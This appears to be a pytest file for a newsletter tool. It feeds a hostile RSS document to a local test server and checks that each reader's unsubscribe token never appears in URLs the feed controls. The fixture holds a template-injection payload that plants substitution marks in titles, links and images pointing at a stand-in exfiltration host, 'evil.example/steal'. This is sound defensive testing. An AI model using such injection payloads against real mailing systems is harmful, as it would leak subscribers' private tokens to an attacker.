"""Attacks from outside, each against a real server on 127.0.0.1, asserting what an attacker would check."""

from __future__ import annotations

import re

from conftest import SECRET, run_cli, write_config

from subscribers import read_unsubscribe_token

MARKS = ["@@UNSUBSCRIBE_URL@@", "@@unsubscribe-00000000000000000000000000000000@@", "@@TEXT_BODY@@"]
STEAL = "https://evil.example/steal?u="
HOSTILE_FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Hostile</title><link>https://evil.example/</link><description>x</description>
<item><title>Win a prize {m0} now</title><link>{steal}{m0}</link><guid>urn:evil:1</guid>
<pubDate>Mon, 24 Nov 2026 10:00:00 GMT</pubDate>
<media:content url="{steal}{m0}&amp;img=1.jpg" medium="image" width="1200" height="800"/>
<description>&lt;p&gt;Read this {m0} and {m1} and {m2} today. The offer is real and it is good.
&lt;img src="{steal}{m1}.png" width="800" height="600" alt="{m0}"&gt;
&lt;a href="{steal}{m0}"&gt;claim {m0}&lt;/a&gt;&lt;/p&gt;</description></item>
<item><title>Second {m1}</title><link>https://evil.example/two?x={m1}</link><guid>urn:evil:2</guid>
<pubDate>Mon, 24 Nov 2026 09:00:00 GMT</pubDate><description>Plain second story with {m2} inside it.</description></item>
</channel></rss>"""


def test_feed_text_carrying_the_personal_mark_never_gets_a_readers_link(tmp_path, smtp_server, feed_server):
    """A feed that writes the substitution marks into its title, links, images and text gets inert text.

    Over every recipient: the reader's token occurs exactly where we put it
    (List-Unsubscribe twice, the footer link in each part) and in no URL the
    feed controls.
    """
    feed_server.routes["/hostile.rss"] = (200, {"Content-Type": "application/rss+xml"},
                                          HOSTILE_FEED.format(steal=STEAL, m0=MARKS[0], m1=MARKS[1],
                                                              m2=MARKS[2]).encode())
    config = write_config(tmp_path, smtp_port=smtp_server.port, sources=f"""
        [[newsletters.sources]]
        name = "Hostile"
        url = "{feed_server.url('/hostile.rss')}"
        """)
    readers = [f"reader{n}@example.com" for n in range(4)]
    (tmp_path / "readers.csv").write_text("email\n" + "\n".join(readers) + "\n")
    assert run_cli("subscribers", "import", "readers.csv", "-n", "daily", "--consent-obtained",
                   config=config).returncode == 0

    result = run_cli("send", "daily", config=config)

    assert result.returncode == 0, result.stderr
    assert sorted(m.rcpt_tos[0] for m in smtp_server.messages) == readers
    seen_tokens = set()
    for received in smtp_server.messages:
        message = received.message
        token = re.search(r"token=([\w.-]+)>", message["List-Unsubscribe"]).group(1)
        assert read_unsubscribe_token(SECRET, token)[1] == "daily"
        seen_tokens.add(token)
        text = message.get_body(("plain",)).get_content()
        html = message.get_body(("html",)).get_content()
        assert text.count(token) == 1 and html.count(token) == 1
        assert message["List-Unsubscribe"].count(token) == 2  # https and mailto
        assert not [name for name, value in message.items() if name != "List-Unsubscribe" and token in str(value)]
        for body in (text, html):
            for url in re.findall(r"https://evil\.example[^\s\"'<>)]*", body):
                assert token not in url and "token=" not in url and "gazette.example.org" not in url, url
        assert "Win a prize" in text and MARKS[0] in text  # the feed's text arrives, as text
    assert len(seen_tokens) == len(readers)
